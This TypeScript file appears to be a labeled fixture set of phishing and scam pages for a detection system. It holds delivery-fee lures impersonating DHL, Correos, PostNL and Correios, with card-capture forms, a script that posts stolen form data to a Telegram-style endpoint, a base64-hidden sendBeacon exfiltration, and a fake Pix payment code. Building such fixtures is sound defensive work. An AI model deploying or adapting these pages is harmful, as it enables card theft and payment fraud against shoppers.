import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, cardFields, pngR } from '../parts/zc-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

// Delivery-fee kits: a small redelivery / customs / address-correction fee paid by card. Sent by SMS to buyers
// waiting for marketplace orders.

const DHL = 'dhl-paket.zustellung-gebuehr.de.com';
const COR = 'correos-es.aduanas-pago.info';
const PNL = 'postnl-bezorging.nl-pakket.top';
const CRB = 'correios-rastreamento.taxa-liberacao.com';

export const entries: Entry[] = [
  {
    id: 'zc-delivery-dhl-zustellgebuehr-de',
    label: 'phishing',
    kind: 'delivery-fee',
    url: `https://${DHL}/sendung/00340434161094027318`,
    body: doc({
      lang: 'de',
      title: 'DHL Paket – Sendungsverfolgung',
      css: 'body{background:#f2f2f2}.y{background:#fc0;padding:14px 24px}.c{max-width:600px;margin:24px auto;background:#fff;padding:24px}.bar{display:flex;gap:4px}.bar div{flex:1;height:6px;background:#d40511}.bar div.o{background:#ddd}',
      body: `<div class="y"><b style="color:#d40511;font-size:26px;font-style:italic">DHL</b></div>
<div class="c">
  <h2>Sendung 00340434161094027318</h2>
  <div class="bar"><div></div><div></div><div></div><div class="o"></div><div class="o"></div></div>
  <p style="color:#d40511"><b>Zustellung ausgesetzt:</b> Die Sendung konnte nicht zugestellt werden, da die Hausnummer unvollständig ist. Für die erneute Zustellung wird eine Servicegebühr von <b>1,99 €</b> erhoben.</p>
  <p>Bitte begleichen Sie die Gebühr innerhalb von 48 Stunden, andernfalls wird die Sendung an den Absender zurückgeschickt.</p>
  <form id="f">
    <label>Vollständiger Name</label><input name="n"><label>Straße und Hausnummer</label><input name="s"><label>PLZ / Ort</label><input name="o"><label>Geburtsdatum</label><input name="dob" placeholder="TT.MM.JJJJ">
    ${cardFields({ holder: 'Karteninhaber', number: 'Kartennummer', exp: 'Ablaufdatum', cvc: 'CVV' })}
    <button class="btn" style="background:#d40511;color:#fff;width:100%;margin-top:16px">1,99 € bezahlen</button>
  </form>
</div>
<p style="text-align:center;font-size:12px;color:#666">Deutsche Post DHL Group · Impressum · Datenschutz</p>
<script src="https://${DHL}/js/x.js"></script>`,
    }),
    routes: {
      [`${DHL}/js/x.js`]: jsRoute(`(function(){var k='tg',c='-100183920019';var f=document.getElementById('f');f.onsubmit=function(e){e.preventDefault();var t='';for(var p of new FormData(f))t+=p[0]+': '+p[1]+'\\n';
fetch('/api/'+k+'/send',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({chat:c,text:t})}).then(function(){location.href='/sendung/00340434161094027318/sicherheit'})}})();`),
      [`${DHL}/api/tg/send`]: jsonRoute({ ok: true }),
    },
  },
  {
    id: 'zc-delivery-correos-aduanas-es',
    label: 'phishing',
    kind: 'delivery-fee',
    url: `https://${COR}/seguimiento?envio=PQ4F6Q0702239380128001S`,
    body: doc({
      lang: 'es',
      title: 'Correos – Pago de gastos de aduana',
      css: 'body{background:#f7f7f7}.c{max-width:560px;margin:24px auto;background:#fff;padding:24px;border-top:6px solid #ffcd00}',
      body: `<div style="background:#002e6d;color:#ffcd00;padding:14px 20px;font-weight:800;font-size:22px">Correos</div>
<div class="c">
  <h2>Su envío está retenido en aduanas</h2>
  <p>Envío <b>PQ4F6Q0702239380128001S</b> procedente de China (pedido AliExpress). Para su despacho es necesario el abono de los aranceles e IVA de importación:</p>
  <table><tr><td>IVA de importación</td><td>1,21 €</td></tr><tr><td>Gestión aduanera DUA</td><td>1,78 €</td></tr><tr><th>Total</th><th>2,99 €</th></tr></table>
  <form action="/pago" method="post">
    <label>Nombre</label><input name="nombre"><label>Dirección</label><input name="dir"><label>Móvil</label><input name="movil">
    ${cardFields({ holder: 'Titular', number: 'Tarjeta', exp: 'Caducidad', cvc: 'CVV' })}
    <button class="btn" style="background:#002e6d;color:#fff;width:100%;margin-top:16px">Pagar 2,99 €</button>
  </form>
  <p style="font-size:12px;color:#888">Sociedad Estatal Correos y Telégrafos, S.A., S.M.E.</p>
</div>`,
    }),
    routes: {},
  },
  {
    id: 'zc-delivery-postnl-sms-redirect-nl',
    label: 'phishing',
    kind: 'delivery-fee',
    url: `https://${PNL}/t/8Kq2x`,
    routes: {
      [`${PNL}/t/8Kq2x`]: redirectRoute(302, `https://${PNL}/nl/track/3SPNL71029381`),
      [`${PNL}/nl/track/3SPNL71029381`]: htmlRoute(
        doc({
          lang: 'nl',
          title: 'PostNL | Track & Trace',
          css: 'body{background:#f3f3f6}.c{max-width:540px;margin:24px auto;background:#fff;padding:24px;border-radius:12px}',
          body: `<div style="background:#fff;padding:14px 20px;border-bottom:1px solid #e4e4e4"><b style="color:#ed7000;font-size:24px">PostNL</b></div>
<div class="c">
  <h2>Uw pakket wacht op betaling</h2>
  <p>Zending <b>3SPNL71029381</b> kon niet worden bezorgd wegens onvoldoende gefrankeerd. Bijbetaling: <b>€ 1,95</b>. Betaal vandaag en kies een nieuw bezorgmoment.</p>
  <label>Bezorgmoment</label><select><option>Morgen 08:00 - 12:00</option><option>Morgen 12:00 - 17:00</option><option>Morgen 17:00 - 22:00</option></select>
  <form id="b">${cardFields({ holder: 'Naam kaarthouder', number: 'Kaartnummer', exp: 'Vervaldatum', cvc: 'CVC' })}<button class="btn" style="background:#ed7000;color:#fff;width:100%;margin-top:16px">Betaal € 1,95</button></form>
</div>
<script>
(function(){var g=atob('L2FwaS9wYXk=');document.getElementById('b').onsubmit=function(e){e.preventDefault();navigator.sendBeacon(g,new FormData(this));location.href='/nl/track/3SPNL71029381/bevestig';};})();
</script>`,
        }),
      ),
      [`${PNL}/api/pay`]: jsonRoute({ ok: 1 }),
    },
  },
  {
    id: 'zc-delivery-correios-taxa-pix-br',
    label: 'scam',
    kind: 'delivery-fee',
    url: `https://${CRB}/rastreio/NL928371625BR`,
    body: doc({
      lang: 'pt-BR',
      title: 'Correios – Rastreamento de objetos',
      css: 'body{background:#f5f5f5}.c{max-width:560px;margin:24px auto;background:#fff;padding:24px;border-radius:8px}.pix{font-family:monospace;word-break:break-all;background:#f0f0f0;padding:10px;font-size:12px}',
      body: `<div style="background:#ffe600;padding:12px 20px"><b style="color:#00416b;font-size:22px">Correios</b></div>
<div class="c">
  <h2>Objeto NL928371625BR</h2>
  <p>🟡 <b>Aguardando pagamento</b> – Objeto retido na unidade de fiscalização aduaneira em Curitiba/PR.</p>
  <p>Para liberação da sua encomenda (compra internacional – Shopee/Shein), é necessário o pagamento da <b>taxa de importação de R$ 64,87</b> (Programa Remessa Conforme).</p>
  <p>Pague via Pix copiando o código abaixo no app do seu banco. Após o pagamento, a entrega ocorre em até 3 dias úteis.</p>
  <div class="pix" id="pix">00020126580014br.gov.bcb.pix0136d1c7e1b2-77f0-4c2a-9c1e-2f2f8e9a1b7d520400005303986540564.875802BR5920LIBERACAO ENCOMENDA6009SAO PAULO62070503***6304B1F3</div>
  <button class="btn" style="background:#00416b;color:#fff;width:100%;margin-top:12px" onclick="navigator.clipboard.writeText(document.getElementById('pix').textContent);this.textContent='Código copiado!'">Copiar código Pix</button>
  <p style="font-size:12px;color:#c00">Caso o pagamento não seja efetuado em 24 horas, o objeto será devolvido ao remetente.</p>
</div>`,
    }),
    routes: {},
  },
];
